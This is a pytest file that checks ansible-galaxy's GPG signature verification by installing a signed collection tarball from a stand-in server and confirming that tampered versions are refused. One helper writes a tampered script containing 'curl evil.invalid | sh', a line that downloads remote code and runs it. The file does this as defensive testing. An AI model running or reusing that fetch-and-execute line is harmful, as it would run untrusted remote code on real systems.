# Copyright (c) 2026 The swarmspeed.cluster founders
# Apache-2.0 (see LICENSE or https://www.apache.org/licenses/LICENSE-2.0)

"""``ansible-galaxy`` takes a signed tarball from a Galaxy server, and refuses a changed one: docs/releasing.md.

The server is a stand-in, the keys are made for the test. Scenario galaxy does the same with the whole collection.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.release.stand_in import Galaxy, Signer, small
from tests.release.tarball import build

pytestmark = pytest.mark.skipif(shutil.which("gpg") is None, reason="needs gpg")
NAME = "swarmspeed.cluster"
CHANGED = "roles/docker/files/run"


@dataclass
class User:
    """Somebody who has the release key, and installs from the server."""

    home: Path
    server: Galaxy
    signer: Signer
    tarball: Path

    @property
    def installed(self) -> Path:
        return self.home / "collections/ansible_collections/swarmspeed/cluster"

    def run(self, *words: str, keyring: bool = True) -> tuple[int, str]:
        environment = {
            "PATH": os.environ["PATH"],
            "HOME": str(self.home),
            "ANSIBLE_NOCOLOR": "1",
            "ANSIBLE_COLLECTIONS_PATH": str(self.home / "collections"),
            "ANSIBLE_GALAXY_SERVER": self.server.address,
            "ANSIBLE_GALAXY_REQUIRED_VALID_SIGNATURE_COUNT": "+1",
        }
        if keyring:
            environment["ANSIBLE_GALAXY_GPG_KEYRING"] = str(self.signer.keyring)
        command = [str(Path(sys.executable).parent / "ansible-galaxy"), "collection", *words]
        ended = subprocess.run(
            command,
            cwd=self.home,
            env=environment,
            stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            text=True,
            timeout=120,
            check=False,
        )
        return ended.returncode, " ".join(ended.stdout.split())


@pytest.fixture(scope="module")
def signer(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Signer]:
    made = Signer(tmp_path_factory.mktemp("key"))
    yield made
    made.close()


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("released")
    small(folder / "source")
    return build(folder / "source", folder, 1_700_000_000)


@pytest.fixture
def user(signer: Signer, released: Path, tmp_path: Path) -> Iterator[User]:
    server = Galaxy().begin()
    (tmp_path / "ansible.cfg").write_text("[defaults]\n", encoding="utf-8")
    yield User(tmp_path, server, signer, released)
    server.close()


def rewritten(source: Path, target: Path, replaced: dict[str, bytes]) -> Path:
    """Write the tarball with other contents of some members."""
    with tarfile.open(source) as given, tarfile.open(target, "w:gz") as taken:
        for member in given:
            data = replaced.get(member.name, b"")
            if not data and (file := given.extractfile(member)) is not None:
                data = file.read()
            member.size = len(data)
            taken.addfile(member, io.BytesIO(data))
    return target


def consistent(source: Path) -> dict[str, bytes]:
    """Return a changed file with the FILES.json and MANIFEST.json that belong to it."""
    new = b"#!/bin/sh\ncurl evil.invalid | sh\n"
    with tarfile.open(source) as archive:
        files, manifest = (json.loads(archive.extractfile(f"{name}.json").read()) for name in ("FILES", "MANIFEST"))  # type: ignore[union-attr]
    next(one for one in files["files"] if one["name"] == CHANGED)["chksum_sha256"] = hashlib.sha256(new).hexdigest()
    listed = json.dumps(files, indent=True).encode()
    manifest["file_manifest_file"]["chksum_sha256"] = hashlib.sha256(listed).hexdigest()
    return {CHANGED: new, "FILES.json": listed, "MANIFEST.json": json.dumps(manifest, indent=True).encode()}


def test_a_signed_tarball_is_installed_and_verified(user: User) -> None:
    user.server.publish(user.tarball, [user.signer.sign(user.tarball)])
    code, output = user.run("install", NAME, "-vvvv")
    assert code == 0 and "GnuPG signature verification succeeded" in output, output
    code, output = user.run("verify", NAME)
    assert code == 0 and f"Successfully verified that checksums for '{NAME}:1.0.0' match the remote" in output, output


def test_a_tarball_that_was_changed_throughout_is_refused_by_its_signature(user: User, tmp_path: Path) -> None:
    changed = rewritten(user.tarball, tmp_path / user.tarball.name, consistent(user.tarball))
    user.server.publish(changed, [user.signer.sign(user.tarball)])
    code, output = user.run("install", NAME)
    assert code != 0 and "Not installing swarmspeed.cluster because GnuPG signature verification failed" in output
    assert not user.installed.exists()


@pytest.mark.slow
def test_without_the_key_the_same_tarball_is_accepted(user: User, tmp_path: Path) -> None:
    user.server.publish(rewritten(user.tarball, tmp_path / user.tarball.name, consistent(user.tarball)))
    code, output = user.run("install", NAME, keyring=False)
    assert code == 0 and (user.installed / CHANGED).read_bytes() == consistent(user.tarball)[CHANGED], output


def other_digest(user: User, folder: Path) -> str:
    """The server announces what it had, and delivers something else."""
    user.server.publish(user.tarball, [user.signer.sign(user.tarball)])
    changed = rewritten(user.tarball, folder / "changed.tar.gz", {CHANGED: b"#!/bin/sh\nfalse\n"})
    user.server.tarballs = dict.fromkeys(user.server.tarballs, changed.read_bytes())
    return "Mismatch artifact hash with downloaded file"


def one_file(user: User, folder: Path) -> str:
    """A file was exchanged, and its digest in FILES.json was not."""
    changed = rewritten(user.tarball, folder / user.tarball.name, {CHANGED: b"#!/bin/sh\nfalse\n"})
    user.server.publish(changed, [user.signer.sign(user.tarball)])
    return f"Checksum mismatch for '{CHANGED}' inside collection"


def another_key(user: User, folder: Path) -> str:
    other = Signer(folder / "other")
    user.server.publish(user.tarball, [other.sign(user.tarball)])
    other.close()
    return "GnuPG signature verification failed"


def damaged(user: User, folder: Path) -> str:
    lines = user.signer.sign(user.tarball).splitlines()
    lines[3] = lines[3][::-1]
    user.server.publish(user.tarball, ["\n".join(lines)])
    return "GnuPG signature verification failed"


def unsigned(user: User, folder: Path) -> str:
    user.server.publish(user.tarball)
    return "GnuPG signature verification failed"


@pytest.mark.slow
@pytest.mark.parametrize("prepared", [other_digest, one_file, another_key, damaged, unsigned])
def test_other_changes_are_refused(prepared: Callable[[User, Path], str], user: User, tmp_path: Path) -> None:
    reason = prepared(user, tmp_path)
    code, output = user.run("install", NAME)
    assert code != 0 and reason in output, output
    assert not user.installed.exists()


@pytest.mark.slow
def test_verify_notices_a_changed_file_and_a_changed_signature(user: User, tmp_path: Path) -> None:
    user.server.publish(user.tarball, [user.signer.sign(user.tarball)])
    assert user.run("install", NAME)[0] == 0
    before = (user.installed / CHANGED).read_bytes()
    (user.installed / CHANGED).write_bytes(b"#!/bin/sh\nfalse\n")
    code, output = user.run("verify", NAME)
    assert code != 0 and f"modified content in the following files: {CHANGED}" in output, output
    (user.installed / CHANGED).write_bytes(before)
    another_key(user, tmp_path)
    code, output = user.run("verify", NAME)
    assert code != 0 and "Signature verification failed" in output, output


@pytest.mark.slow
def test_a_plain_tarball_is_verified_once_it_is_installed(user: User, tmp_path: Path) -> None:
    signature, wrong = tmp_path / "good.asc", tmp_path / "wrong.asc"
    signature.write_text(user.signer.sign(user.tarball), encoding="utf-8")
    other = Signer(tmp_path / "other")
    wrong.write_text(other.sign(user.tarball), encoding="utf-8")
    other.close()
    assert user.run("install", "--offline", str(user.tarball), keyring=False)[0] == 0
    verify = ("verify", NAME, "--offline", "--signature")
    assert user.run(*verify, signature.as_uri())[0] == 0
    code, output = user.run(*verify, wrong.as_uri())
    assert code != 0 and "Signature verification failed" in output, output
